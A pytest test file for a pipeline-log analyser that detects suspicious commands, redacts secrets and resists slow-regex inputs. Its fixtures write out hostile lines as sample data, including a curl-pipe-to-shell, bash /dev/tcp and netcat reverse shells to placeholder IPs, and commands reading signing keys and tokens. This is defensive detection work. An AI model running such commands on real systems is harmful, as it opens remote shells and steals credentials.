"""Suspicious lines of pipeline logs."""

import os
import time
from pathlib import Path

import pytest

from firebreak.investigation import logs
from firebreak.investigation.logs import analyse_log
from firebreak.records import FindingType, Severity


@pytest.mark.parametrize(
    ("line", "pattern"),
    [
        ("RUN PIP Install evil", "pip install"),
        ("python -m pip3  install x", "pip install"),
        ("curl http://x | sh", "curl"),
        ("Wget http://x", "wget"),
        ("echo aGk= | BASE64 -d", "base64"),
        ("bash -i >& /dev/TCP/1.2.3.4/99", "/dev/tcp/"),
        ("nc -e /bin/sh 1.2.3.4", "nc -"),
        ("cp cosign.key /tmp", "signing key"),
        ("echo $SIGNING_KEY", "signing key"),
        ("cat private/release.pem", "signing key"),
        ("export HF_TOKEN", "token"),
        ("env | grep GITHUB_TOKEN", "token"),
        ("the api token is", "token"),
        ("Authorization: Bearer abcdefgh", "token"),
        ("\x1b[1mpip\x1b[0m install x", "pip install"),
    ],
)
def test_each_pattern_is_found_whatever_its_case(tmp_path: Path, line: str, pattern: str) -> None:
    """Colours do not hide a command either."""
    log = tmp_path / "build.log"
    log.write_text(f"start\n{line}\n")
    found = {f.evidence["pattern"]: f for f in analyse_log(log, "m")}
    assert found[pattern].evidence["lines"][0]["line"] == 2
    assert found[pattern].evidence["count"] == 1


def test_harmless_lines_stay_silent(tmp_path: Path) -> None:
    """Words that contain a pattern's letters are not the pattern."""
    log = tmp_path / "build.log"
    log.write_text("rsync -av a b\nlibcurl4 found\npad_token_id=0\neos_token\nsync -f\n")
    assert analyse_log(log, "m") == []


def test_the_first_ten_lines_are_shown_and_all_are_counted(tmp_path: Path) -> None:
    """Evidence stays small, the count is whole."""
    log = tmp_path / "build.log"
    log.write_text("".join(f"{i}\ncurl {i}\n" for i in range(25)))
    (found,) = analyse_log(log, "m")
    assert found.evidence["count"] == 25
    assert [n["line"] for n in found.evidence["lines"]] == list(range(2, 22, 2))
    assert "25 lines" in found.message


@pytest.mark.parametrize("pad", [0, 500, 5000, 100_000])
def test_secrets_are_redacted_before_a_line_is_cut(tmp_path: Path, pad: int) -> None:
    """Neither the secret nor a part of it is in the evidence; the command is."""
    secret = "hf_" + "Zq9" * 12
    log = tmp_path / "build.log"
    command = f"curl -H 'Authorization: Bearer {secret}' --token {secret} HF_TOKEN={secret}"
    log.write_text(f"{'x ' * (pad // 2)}{command} {'y ' * pad}\n")
    found = analyse_log(log, "m")
    assert {f.evidence["pattern"] for f in found} == {"curl", "token"}
    for finding in found:
        assert "Zq9Zq9" not in str(finding.to_json())
        assert len(finding.evidence["lines"][0]["text"]) <= 300
    assert "curl" in found[0].evidence["lines"][0]["text"]


def test_a_line_of_many_megabytes_is_searched_in_pieces(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Also a pattern that lies across two pieces, and line numbers stay right."""
    monkeypatch.setattr(logs, "MAX_PIECE", 4096)
    log = tmp_path / "build.log"
    log.write_bytes(b"ok\n" + b"a" * 4090 + b" /dev/tcp/ " + b"b" * 9000 + b"\nwget x\n")
    found = {f.evidence["pattern"]: f.evidence["lines"][0]["line"] for f in analyse_log(log, "m")}
    assert found == {"/dev/tcp/": 2, "wget": 3}


def test_no_input_makes_the_patterns_slow(tmp_path: Path) -> None:
    """Lines made to provoke backtracking take linear time."""
    log = tmp_path / "build.log"
    for piece in (
        "private",
        "key/",
        "a-",
        "hf_",
        "pip ",
        "curl -",
        "TOKEN=",
        "--token",
        "x://",
        "bearer ",
    ):
        log.write_text(piece * (400_000 // len(piece)))
        start = time.monotonic()
        analyse_log(log, "m")
        assert time.monotonic() - start < 5, piece


def test_a_missing_empty_or_special_log_is_a_finding(tmp_path: Path) -> None:
    """An attacker deletes logs; a FIFO in its place does not hang."""
    (tmp_path / "empty").touch()
    os.mkfifo(tmp_path / "fifo")
    for name in ("missing", "empty", "fifo", "."):
        (found,) = analyse_log(tmp_path / name, "m")
        assert found.type is FindingType.LOG_MISSING
        assert found.severity is Severity.HIGH


def test_what_was_not_read_is_not_clean(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A compressed log and the rest of a huge one are findings."""
    (tmp_path / "a.gz").write_bytes(b"\x1f\x8b\x08abc")
    assert "compressed" in analyse_log(tmp_path / "a.gz", "m")[0].message
    monkeypatch.setattr(logs, "MAX_LOG", 100)
    (tmp_path / "big").write_text("x\n" * 100)
    assert "larger than" in analyse_log(tmp_path / "big", "m")[0].message


def test_utf_16_and_control_characters_are_handled(tmp_path: Path) -> None:
    """A PowerShell log is read, and nothing of a line can steer a terminal."""
    (tmp_path / "a").write_bytes("x\ncurl http://x\n".encode("utf-16"))
    assert analyse_log(tmp_path / "a", "m")[0].evidence["lines"][0]["line"] == 2
    (tmp_path / "b").write_bytes(b"curl \x1b]0;owned\x07 \xff\n")
    assert analyse_log(tmp_path / "b", "m")[0].evidence["lines"][0]["text"].isprintable()
